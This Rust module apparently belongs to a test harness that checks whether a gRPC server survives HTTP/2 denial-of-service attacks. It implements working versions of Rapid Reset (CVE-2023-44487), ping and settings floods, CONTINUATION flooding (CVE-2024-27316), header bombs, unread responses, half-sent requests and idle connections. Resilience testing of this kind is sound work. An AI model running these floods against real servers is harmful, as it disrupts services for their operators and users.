//! The attacks. Each begins anew when the server has ended its connection.

use std::{
    convert::Infallible,
    io,
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
};

use prost::Message;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};

use super::{
    raw::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, Raw, SETTINGS,
        frame, head, header,
    },
    victim::much,
};

#[derive(Clone, Copy, Debug)]
pub(super) enum Attack {
    /// Calls that are reset at once (CVE-2023-44487).
    RapidReset,
    /// The same, each when the one before was seen.
    SlowReset,
    /// Pings whose answers nobody waits for (CVE-2019-9512).
    Pings,
    /// Settings, which are to be acknowledged (CVE-2019-9515).
    Settings,
    /// A megabyte of headers.
    Headers,
    /// Headers that go on for ever, by frames of nothing (CVE-2024-27316).
    Continuations,
    /// Long answers, of which no byte is taken.
    UnreadAnswers,
    /// Requests of a megabyte, but for their last byte.
    HalfRequests,
    /// Connections that say nothing.
    Silence,
}

/// An attack under way; dropping it ends it.
pub(super) struct Attacking {
    tries: Arc<AtomicU64>,
    tasks: JoinSet<()>,
}

impl Attacking {
    pub(super) fn tries(&self) -> u64 {
        self.tries.load(Relaxed)
    }

    pub(super) fn stop(mut self) {
        self.tasks.abort_all();
    }
}

impl Attack {
    /// Connections that attack at once.
    fn connections(self) -> usize {
        match self {
            Self::UnreadAnswers => 8,
            Self::Silence => 500,
            _ => 4,
        }
    }

    pub(super) fn start(self, to: SocketAddr) -> Attacking {
        let tries: Arc<AtomicU64> = Arc::default();
        let mut tasks = JoinSet::new();
        for _ in 0..self.connections() {
            let tries = Arc::clone(&tries);
            tasks.spawn(async move {
                loop {
                    // ended by the server, as it should be
                    let _ = self.attack(to, &tries).await;
                    tokio::task::yield_now().await;
                }
            });
        }
        Attacking { tries, tasks }
    }

    async fn attack(self, to: SocketAddr, tries: &AtomicU64) -> io::Result<Infallible> {
        match self {
            Self::RapidReset => resets(to, tries, 100).await,
            Self::SlowReset => resets(to, tries, 1).await,
            Self::Pings => flood(to, tries, &frame(PING, 0, 0, &[7; 8])).await,
            Self::Settings => flood(to, tries, &frame(SETTINGS, 0, 0, &[])).await,
            Self::Headers => {
                let fill = header("x", &"x".repeat(16_000));
                headers(to, tries, &fill, 64).await
            }
            Self::Continuations => headers(to, tries, &[], u32::MAX).await,
            Self::UnreadAnswers => unread(to, tries).await,
            Self::HalfRequests => half(to, tries).await,
            Self::Silence => {
                let mut stream = TcpStream::connect(to).await?;
                tries.fetch_add(1, Relaxed);
                stream.read_u8().await?;
                Err(io::ErrorKind::Other.into())
            }
        }
    }
}

/// Calls and resets, so many at a time.
async fn resets(to: SocketAddr, tries: &AtomicU64, at_once: u64) -> io::Result<Infallible> {
    let raw = Raw::connect(to, 65_535).await?;
    let (mut write, mut stream, _reading) = raw.drained();
    loop {
        let mut frames = Vec::new();
        for _ in 0..at_once {
            frames.extend(frame(HEADERS, END_HEADERS, stream, &head("LookupEvents")));
            frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        write.write_all(&frames).await?;
        tries.fetch_add(at_once, Relaxed);
        tokio::task::yield_now().await;
    }
}

/// One frame again and again.
async fn flood(to: SocketAddr, tries: &AtomicU64, one: &[u8]) -> io::Result<Infallible> {
    let raw = Raw::connect(to, 65_535).await?;
    let (mut write, _, _reading) = raw.drained();
    let many = one.repeat(1000);
    loop {
        write.write_all(&many).await?;
        tries.fetch_add(1000, Relaxed);
    }
}

/// Headers that go on for so many frames.
async fn headers(
    to: SocketAddr,
    tries: &AtomicU64,
    fill: &[u8],
    frames: u32,
) -> io::Result<Infallible> {
    let mut raw = Raw::connect(to, 65_535).await?;
    loop {
        let stream = raw.stream();
        let begin = frame(HEADERS, 0, stream, &head("LookupEvents"));
        raw.write.write_all(&begin).await?;
        tries.fetch_add(1, Relaxed);
        for _ in 0..frames {
            let more = frame(CONTINUATION, 0, stream, fill);
            raw.write.write_all(&more).await?;
        }
        let end = frame(CONTINUATION, END_HEADERS, stream, &[]);
        raw.write.write_all(&end).await?;
    }
}

/// Asks for long answers and takes none.
async fn unread(to: SocketAddr, tries: &AtomicU64) -> io::Result<Infallible> {
    let mut raw = Raw::connect(to, 0).await?;
    let message = much().encode_to_vec();
    let mut body = vec![0];
    body.extend(u32::try_from(message.len()).unwrap().to_be_bytes());
    body.extend(&message);
    // as many as a connection may have
    for _ in 0..199 {
        let stream = raw.stream();
        let mut call = frame(HEADERS, END_HEADERS, stream, &head("LookupEvents"));
        call.extend(frame(DATA, END_STREAM, stream, &body));
        raw.write.write_all(&call).await?;
        tries.fetch_add(1, Relaxed);
    }
    // its heads and settings are read, and the server is not told
    let mut buffer = [0; 1024];
    while raw.read.read(&mut buffer).await? > 0 {}
    Err(io::ErrorKind::ConnectionReset.into())
}

/// Asks for much and never ends to.
async fn half(to: SocketAddr, tries: &AtomicU64) -> io::Result<Infallible> {
    let stream = TcpStream::connect(to).await?;
    let other = |error: h2::Error| io::Error::other(error);
    let (mut client, connection) = h2::client::handshake(stream).await.map_err(other)?;
    let connection = tokio::spawn(connection);
    let mut calls = Vec::new();
    for _ in 0..150 {
        client = client.ready().await.map_err(other)?;
        let uri = format!("http://{to}/trailgate.v1.EventService/LookupEvents");
        let request = http::Request::post(uri).header("content-type", "application/grpc");
        let (answer, mut body) = client
            .send_request(request.body(()).unwrap(), false)
            .map_err(other)?;
        let len = (1_u32 << 20) - 5;
        let mut message = vec![0];
        message.extend(len.to_be_bytes());
        message.resize((1 << 20) - 1, 0);
        // sent as far as the server lets it be
        body.send_data(message.into(), false).map_err(other)?;
        tries.fetch_add(1, Relaxed);
        calls.push((answer, body));
    }
    for (answer, _) in calls {
        let _ = answer.await;
    }
    connection.abort();
    Err(io::ErrorKind::ConnectionReset.into())
}
